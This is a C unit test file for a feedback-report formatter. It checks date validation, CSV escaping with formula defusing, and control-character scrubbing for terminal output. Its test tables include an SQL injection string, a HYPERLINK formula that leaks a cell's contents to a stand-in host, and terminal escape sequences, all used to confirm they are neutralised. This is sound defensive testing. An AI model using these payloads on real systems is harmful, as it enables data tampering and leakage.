/*
 * Unit tests for fcgi/src/reports_format.c: the check of `finder reports
 * --since`, and visitors' text written into the listing as CSV (RFC 4180,
 * formulas defused) and for a terminal (control characters replaced). Tables,
 * the hostile cases in them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "patterns.h"
#include "reports_format.h"

struct since_case {
	const char *in;
	int ok;
};

static const struct since_case since_cases[] = {
	{"2026-03-08", 1},
	{"2024-02-29", 1},
	{"2026-03-08T19:00", 1},
	{"2026-03-08T19:00:59", 1},
	{"2026-03-08T19:00Z", 1},
	{"2026-03-08T19:00:00+01:00", 1},
	{"2026-03-08T19:00-05:30", 1},
	{"", 0},
	{"2026", 0},
	{"2026-3-8", 0},
	{"2026-02-29", 0},
	{"2026-13-01", 0},
	{"2026-04-31", 0},
	{"1899-12-31", 0},
	{"2026-03-08 19:00", 0},
	{"2026-03-08T24:00", 0},
	{"2026-03-08T19:00:00+01:00x", 0},
	{"2026-03-08T19:00:00.5Z", 0},
	{"2026-03-08Z", 0},
	{"now", 0},
	{"yesterday", 0},
	{"2026-03-08'; DROP TABLE feedback; --", 0},
	{"2026-03-08\n", 0},
};

static void test_since(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(since_cases) / sizeof(since_cases[0]); i++) {
		const struct since_case *c = &since_cases[i];

		if (reports_since_ok(c->in, strlen(c->in)) != c->ok)
			fail_msg("--since \"%s\": want %s", c->in, c->ok ? "taken" : "refused");
	}
}

/* What fn writes for s, in a string the caller frees. */
static char *written(void (*fn)(FILE *, const char *, const char *), const char *s,
		     const char *indent)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	fn(out, s, indent);
	fclose(out);
	return buf;
}

static void csv_field(FILE *out, const char *s, const char *indent)
{
	(void)indent;
	reports_csv_field(out, s);
}

struct text_case {
	const char *in, *want;
};

static const struct text_case csv_cases[] = {
	{"plain", "plain"},
	{"", ""},
	{NULL, ""},
	{"a,b", "\"a,b\""},
	{"say \"hi\"", "\"say \"\"hi\"\"\""},
	{"two\nlines", "\"two\nlines\""},
	{"cr\r\nlf", "\"cr\r\nlf\""},
	{"café ☕", "café ☕"},
	/* A spreadsheet would run these. */
	{"=HYPERLINK(\"http://x/\"&A2)", "\"'=HYPERLINK(\"\"http://x/\"\"&A2)\""},
	{"+1", "'+1"},
	{"-2", "'-2"},
	{"@SUM(A1)", "'@SUM(A1)"},
	{"\tx", "'\tx"},
	{"a=b", "a=b"},
};

static void test_csv(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(csv_cases) / sizeof(csv_cases[0]); i++) {
		char *got = written(csv_field, csv_cases[i].in, "");

		assert_string_equal(got, csv_cases[i].want);
		free(got);
	}
}

static const struct text_case text_cases[] = {
	{"plain", "plain"},
	{NULL, "-"},
	{"one\ntwo\nthree", "one\n    two\n    three"},
	{"tab\there", "tab\there"},
	{"esc\x1b[2Jbell\x07", "esc?[2Jbell?"},
	{"del\x7f", "del?"},
	{"c1 \xc2\x9b"
	 "31m",
	 "c1 ?31m"},
	{"cr\rback", "cr?back"},
	{"café \xc2\xa0 ok", "café \xc2\xa0 ok"}, /* U+00A0 is not C1 */
};

static void test_text(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(text_cases) / sizeof(text_cases[0]); i++) {
		char *got = written(reports_text, text_cases[i].in, "    ");

		assert_string_equal(got, text_cases[i].want);
		free(got);
	}
}

static int setup(void **state)
{
	(void)state;
	return patterns_init();
}

static int teardown(void **state)
{
	(void)state;
	patterns_free();
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_since),
		cmocka_unit_test(test_csv),
		cmocka_unit_test(test_text),
	};

	return cmocka_run_group_tests_name("reports_format", tests, setup, teardown);
}
